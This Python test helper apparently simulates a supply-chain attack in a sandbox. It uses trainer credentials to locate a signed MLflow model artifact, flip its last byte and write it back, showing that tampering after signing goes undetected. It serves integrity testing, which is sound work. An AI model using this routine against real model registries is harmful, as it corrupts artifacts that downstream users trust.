"""The attack of the story: bytes in MLflow change after they were signed; MLflow lets them."""

import base64
import json
import urllib.request
from collections.abc import Mapping
from pathlib import Path

_SECONDS = 10.0


def flip_last_byte(outputs: Mapping[str, str], model: str, version: str, name: str) -> str:
    """Change the last byte of a file of a registered version, as the trainer; return its path."""
    base = outputs["mlflow_url"]
    query = f"/api/2.0/mlflow/model-versions/get-download-uri?name={model}&version={version}"
    place = json.loads(_ask(outputs, "GET", base + query))["artifact_uri"]
    root = place.removeprefix("mlflow-artifacts:/").lstrip("/")
    path = _find(outputs, root, name)
    url = f"{base}/api/2.0/mlflow-artifacts/artifacts/{path}"
    data = bytearray(_ask(outputs, "GET", url))
    data[-1] ^= 1
    _ask(outputs, "PUT", url, bytes(data))
    return path.removeprefix(f"{root}/")


def _find(outputs: Mapping[str, str], folder: str, name: str) -> str:
    listing = f"{outputs['mlflow_url']}/api/2.0/mlflow-artifacts/artifacts?path={folder}"
    for entry in json.loads(_ask(outputs, "GET", listing))["files"]:
        path = f"{folder}/{entry['path']}"
        if entry.get("is_dir"):
            try:
                return _find(outputs, path, name)
            except FileNotFoundError:
                continue
        if Path(path).name == name:
            return path
    raise FileNotFoundError(name)


def _ask(outputs: Mapping[str, str], method: str, url: str, body: bytes | None = None) -> bytes:
    user = outputs["mlflow_trainer_username"]
    password = Path(outputs["mlflow_trainer_password_file"]).read_text().strip()
    login = base64.b64encode(f"{user}:{password}".encode()).decode()
    request = urllib.request.Request(  # noqa: S310 - the sandbox's own address
        url, data=body, method=method, headers={"Authorization": f"Basic {login}"}
    )
    with urllib.request.urlopen(request, timeout=_SECONDS) as answer:  # noqa: S310
        content: bytes = answer.read()
        return content
